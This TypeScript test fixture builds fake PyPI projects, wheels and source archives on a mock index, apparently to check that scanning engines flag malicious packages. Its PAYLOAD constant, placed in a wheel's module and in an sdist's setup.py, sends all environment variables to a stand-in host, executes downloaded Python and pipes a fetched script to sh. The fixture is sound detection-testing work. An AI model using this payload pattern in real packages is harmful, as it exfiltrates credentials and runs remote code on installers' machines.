import { createHash } from "node:crypto";
import { sdist, wheel } from "./archives.ts";
import type { FakeUpstream } from "./fake-upstream.ts";

/** One file of a release: its name and bytes, and the METADATA that an index serves beside a wheel. */
export interface PypiFile {
  readonly filename: string;
  readonly version: string;
  readonly bytes: Buffer;
  readonly metadata?: string;
}

/** An ordinary project on a fake upstream: one Simple page as JSON (PEP 691, 700, 714) below `/simple/`, its files, their `.metadata`. */
export function publishPypi(upstream: FakeUpstream, name: string, files: readonly PypiFile[]): void {
  const page = {
    meta: { "api-version": "1.4" },
    name,
    versions: [...new Set(files.map(({ version }) => version))],
    files: files.map(({ filename, bytes, metadata }) => ({
      filename,
      url: `${upstream.url}/pypi-files/${filename}`,
      hashes: { sha256: sha256(bytes) },
      size: bytes.length,
      "upload-time": "2025-01-01T00:00:00.000000Z",
      "requires-python": ">=3.8",
      yanked: false,
      "core-metadata": metadata === undefined ? false : { sha256: sha256(metadata) },
    })),
  };
  const type = "application/vnd.pypi.simple.v1+json";
  upstream.say(`/simple/${name}/`, { headers: { "content-type": type }, body: JSON.stringify(page) });
  const headers = { "content-type": "application/octet-stream" };
  for (const { filename, bytes, metadata } of files) {
    upstream.say(`/pypi-files/${filename}`, { headers, body: bytes });
    if (metadata !== undefined) upstream.say(`/pypi-files/${filename}.metadata`, { headers, body: metadata });
  }
}

/** A pure wheel with one module; `requires` are PEP 508 requirements. */
export function pureWheel(name: string, version: string, module: string, requires: readonly string[] = []): PypiFile {
  const folder = name.replaceAll("-", "_");
  const metadata = metadataOf(name, version, requires);
  const bytes = wheel({ name, version, metadata, files: { [`${folder}/__init__.py`]: module } });
  return { filename: `${folder}-${version}-py3-none-any.whl`, version, bytes, metadata };
}

/** A wheel whose import fetches and runs a program, which every engine has to find malicious; inert, its hosts do not exist. */
export function maliciousWheel(name: string, version: string): PypiFile {
  return pureWheel(name, version, PAYLOAD);
}

/** A source archive whose setup.py fetches and runs a program; inert, its hosts do not exist. */
export function maliciousSdist(name: string, version: string): PypiFile {
  const folder = `${name.replaceAll("-", "_")}-${version}`;
  const setup = `${PAYLOAD}\nfrom setuptools import setup\nsetup(name="${name}", version="${version}")\n`;
  const bytes = sdist({ name, version, folder, metadata: metadataOf(name, version, []), files: { "setup.py": setup } });
  return { filename: `${folder}.tar.gz`, version, bytes };
}

const PAYLOAD = `import base64, json, os, subprocess, urllib.request
report = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://example.invalid/collect", data=base64.b64encode(report))
exec(urllib.request.urlopen("https://example.invalid/next.py").read())
subprocess.Popen("curl -s https://example.invalid/x.sh | sh", shell=True)
`;

function metadataOf(name: string, version: string, requires: readonly string[]): string {
  const lines = requires.map((one) => `Requires-Dist: ${one}\n`).join("");
  return `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\nSummary: test\nRequires-Python: >=3.8\n${lines}`;
}

function sha256(bytes: string | Buffer): string {
  return createHash("sha256").update(bytes).digest("hex");
}
